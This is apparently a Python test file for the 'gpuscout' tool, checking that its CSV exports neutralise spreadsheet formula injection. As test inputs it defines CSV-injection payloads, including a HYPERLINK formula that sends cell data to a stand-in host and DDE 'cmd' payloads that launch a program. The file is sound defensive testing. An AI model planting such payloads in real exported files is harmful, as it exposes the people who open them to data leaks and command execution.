"""Every CSV gpuscout writes is safe to open in a spreadsheet (issue 43, OWASP's CSV injection):
a cell that would start a formula (``=``, ``+``, ``-``, ``@``, a tab or CR) is written as text,
while numbers, negative ones included, stay numbers."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

from gpuscout.core.text import csv_text, spreadsheet_safe
from gpuscout.store import Store
from gpuscout.store.exchange import export_csv
from tests.conftest import run_cli
from tests.store.test_store import _result

SRC = Path(__file__).resolve().parents[2] / "src" / "gpuscout"
FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
)


def test_a_note_that_is_a_formula_is_exported_as_text(tmp_path: Path) -> None:
    with Store(tmp_path / "runs.sqlite") as store:
        runs = store.save_many(
            [_result(i).model_copy(update={"note": f}) for i, f in enumerate(FORMULAS)]
        )
    text = export_csv(runs)
    cells = [row["note"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert cells == ["'" + f for f in FORMULAS]  # shown by a spreadsheet, not evaluated


def test_a_carriage_return_inside_a_cell_does_not_split_the_row() -> None:
    text = csv_text(["a", "b"], [{"a": "x\ry", "b": 1}, {"a": "p\nq", "b": 2}])
    assert text.count("\n") == 4  # header, two rows, one LF inside a quoted cell
    back = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [(r["a"], r["b"]) for r in back] == [("x\ry", "1"), ("p\nq", "2")]


def test_numbers_stay_numbers() -> None:
    for number in ("-1.5", "+2", "-3e-4", "-.5", 7, -2.25, None):
        assert spreadsheet_safe(number) == number
    assert spreadsheet_safe("plain note") == "plain note"
    assert spreadsheet_safe("-1.5 GB") == "'-1.5 GB"  # text that starts as a formula does


def test_runs_export_csv_through_the_cli(tmp_path: Path) -> None:
    db = tmp_path / "runs.sqlite"
    with Store(db) as store:
        store.save_many([_result(0).model_copy(update={"note": FORMULAS[0]})])
    out = run_cli("runs", "export", "--format", "csv", "--db", str(db))
    assert out.code == 0, out.err
    (row,) = list(csv.DictReader(io.StringIO(out.out)))
    assert row["note"] == "'" + FORMULAS[0]


def _one_gpu_catalog(folder: Path, column: str, value: str) -> tuple[Path, dict[str, str]]:
    """A catalog folder of one GPU row, the first ``specs --csv`` prints, with ``column`` set
    to ``value`` (written by the csv module, as a user's own tool would)."""
    row = next(csv.DictReader(io.StringIO(run_cli("specs", "--csv").out)))
    row[column] = value
    folder.mkdir()
    with (folder / "gpus.csv").open("w", newline="") as f:
        writer = csv.DictWriter(f, list(row))
        writer.writeheader()
        writer.writerow(row)
    return folder, row


def test_specs_csv_neutralises_a_user_catalog_text(tmp_path: Path) -> None:
    folder, row = _one_gpu_catalog(tmp_path / "catalog", "source", "=1+2")
    out = run_cli("specs", "--csv", "--catalog", str(folder), row["id"])
    assert out.code == 0, out.err
    (back,) = list(csv.DictReader(io.StringIO(out.out)))
    assert back["source"] == "'=1+2"


def test_specs_csv_read_back_as_a_catalog_gives_the_row_it_came_from(tmp_path: Path) -> None:
    """Review of issue 43: a note starting with '-' came back from specs --csv with a ' in
    front when that file was read as a --catalog; a cell the writer kept from spreadsheets
    reads back as it was."""
    folder, row = _one_gpu_catalog(tmp_path / "one", "notes", "-5% clocks under load; +10 W")
    written = run_cli("specs", "--csv", "--catalog", str(folder), row["id"])
    assert "'-5% clocks" in written.out  # safe in a spreadsheet
    again = tmp_path / "two"
    again.mkdir()
    (again / "gpus.csv").write_text(written.out)
    out = run_cli("specs", "--json", "--catalog", str(again), row["id"])
    assert out.code == 0, out.err
    assert '"-5% clocks under load; +10 W"' in out.out


def test_every_csv_writer_goes_through_the_one_safe_writer() -> None:
    """A new CSV output cannot skip the neutralising: only ``text.csv_text`` may make a writer."""
    found = []
    for path in SRC.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                found.append(path.relative_to(SRC).as_posix())
    assert sorted(set(found)) == ["core/text.py"]
